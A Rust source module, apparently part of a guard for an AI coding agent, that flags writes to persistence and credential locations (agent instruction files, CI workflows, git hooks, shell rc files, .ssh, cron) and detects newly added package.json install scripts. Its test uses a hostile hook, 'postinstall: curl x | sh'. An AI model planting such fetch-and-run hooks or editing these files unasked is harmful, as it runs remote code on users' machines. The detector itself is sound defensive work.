//! Files that make programs do something later: a change there outlives the session.

use std::path::Path;

use crate::files::{self, Links};
use crate::place::{Place, is_within};

/// The longest package.json that is compared, in bytes.
const MAX_MANIFEST: u64 = 1 << 20;

/// Names of files and folders, wherever they are. A folder counts with all in it.
const NAMES: &[&str] = &[
    ".claude",
    "claude.md",
    "claude.local.md",
    "agents.md",
    "gemini.md",
    ".claude.json",
    ".mcp.json",
    "mcp.json",
    ".cursor",
    ".cursorrules",
    ".windsurfrules",
    ".github/workflows",
    ".github/actions",
    ".github/copilot-instructions.md",
    ".gitlab-ci.yml",
    ".circleci",
    ".drone.yml",
    ".travis.yml",
    ".buildkite",
    "azure-pipelines.yml",
    "bitbucket-pipelines.yml",
    "jenkinsfile",
    ".git/hooks",
    ".git/config",
    ".gitconfig",
    ".gitmodules",
    ".husky",
    ".pre-commit-config.yaml",
    "lefthook.yml",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".devcontainer",
    ".envrc",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".pypirc",
    "pip.conf",
    "pip.ini",
    ".cargo/config.toml",
    ".cargo/config",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".kshrc",
    ".config/fish",
    ".config/git",
    ".config/systemd",
    ".config/autostart",
    ".config/environment.d",
    ".ssh",
    ".gnupg",
    ".aws/config",
    ".kube/config",
    ".docker/config.json",
    "library/launchagents",
    "library/launchdaemons",
    "sitecustomize.py",
    "usercustomize.py",
];

/// Folders of the machine itself.
const FOLDERS: &[&str] = &[
    "/etc",
    "/var/spool/cron",
    "/usr/lib/systemd",
    "/lib/systemd",
    "/usr/local/etc",
    "/library/launchdaemons",
    "/library/launchagents",
];

/// Scripts that package managers run by themselves.
const SCRIPTS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "prepublish",
    "prepublishonly",
    "prepack",
    "postpack",
    "preuninstall",
    "postuninstall",
    "dependencies",
];

/// Whether a file makes programs do something later. `path` is absolute; a `*` or NUL in it may be
/// anything, which does not make it such a file.
pub(super) fn is_one(path: &str) -> bool {
    let path = path.to_lowercase();
    let path = beside(&path);
    let named = |name: &&str| {
        path.match_indices(*name).any(|(at, _)| {
            let end = at + name.len();
            path[..at].ends_with('/') && (end == path.len() || path[end..].starts_with('/'))
        })
    };
    NAMES.iter().any(named) || FOLDERS.iter().any(|folder| is_within(path, folder))
}

/// The path without what the client puts between: the folder of a worktree is a project of its
/// own, and plans steer nothing.
fn beside(path: &str) -> &str {
    const WORKTREES: &str = "/.claude/worktrees/";
    if path.contains("/.claude/plans/") {
        return "";
    }
    match path.rfind(WORKTREES) {
        Some(at) => {
            let name = &path[at + WORKTREES.len()..];
            name.find('/').map_or("", |end| &name[end..])
        }
        None => path,
    }
}

/// The script that writing `text` into `path` adds, if that is a package's manifest and a package
/// manager runs the script by itself.
pub(super) fn new_script(place: &Place, path: &str, text: &str) -> Option<String> {
    let folder = place.cwd.as_deref().unwrap_or("/");
    let path = Path::new(folder).join(path);
    if path.file_name()? != "package.json" {
        return None;
    }
    let present = files::read(&path, MAX_MANIFEST, Links::Follow)
        .ok()
        .flatten();
    let present = String::from_utf8_lossy(&present.unwrap_or_default()).into_owned();
    let before: Vec<&str> = scripts(&present).collect();
    scripts(text)
        .find(|script| !before.contains(script))
        .map(str::to_owned)
}

/// The lines of a manifest that say what is run by itself.
fn scripts(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\n', ',', '{', '}'])
        .map(str::trim)
        .filter(|line| {
            let key = line
                .split_once(':')
                .map(|(key, _)| key.trim().trim_matches('"'));
            key.is_some_and(|key| SCRIPTS.contains(&key.to_ascii_lowercase().as_str()))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn files_that_steer_programs_are_known_wherever_they_are() {
        for (path, expected) in [
            ("/srv/shop/.claude/settings.json", true),
            ("/srv/shop/sub/CLAUDE.md", true),
            ("/srv/shop/.github/workflows/ci.yml", true),
            ("/srv/shop/.git/hooks/pre-commit", true),
            ("/home/dev/.ssh/authorized_keys", true),
            ("/etc/cron.d/x", true),
            ("/srv/shop/src/main.rs", false),
            ("/srv/shop/.claude/worktrees/a/src/main.rs", false),
            ("/srv/shop/.claude/worktrees/a/CLAUDE.md", true),
            ("/home/dev/.claude/plans/a.md", false),
            ("/srv/shop/docs/my.claude.md", false),
            ("/srv/shop/.github/ISSUE_TEMPLATE.md", false),
            ("/srv/shop/.gitignore", false),
            ("/srv/shop/etc/x", false),
        ] {
            assert_eq!(is_one(path), expected, "{path}");
        }
    }

    #[test]
    fn a_script_is_new_only_if_the_manifest_does_not_have_it() {
        let folder = tempfile::tempdir().expect("a folder");
        let path = folder.path().join("package.json");
        let old = r#"{"scripts": {"postinstall": "node build.js", "test": "jest"}}"#;
        std::fs::write(&path, old).expect("written");
        let place = Place::default();
        let path = path.to_str().expect("UTF-8");

        assert_eq!(new_script(&place, path, old), None);
        assert_eq!(new_script(&place, path, r#""test": "vitest""#), None);
        let evil = r#""postinstall": "curl x | sh""#;
        assert_eq!(new_script(&place, path, evil).as_deref(), Some(evil));
        assert_eq!(new_script(&place, "/srv/shop/x.json", evil), None);
    }
}
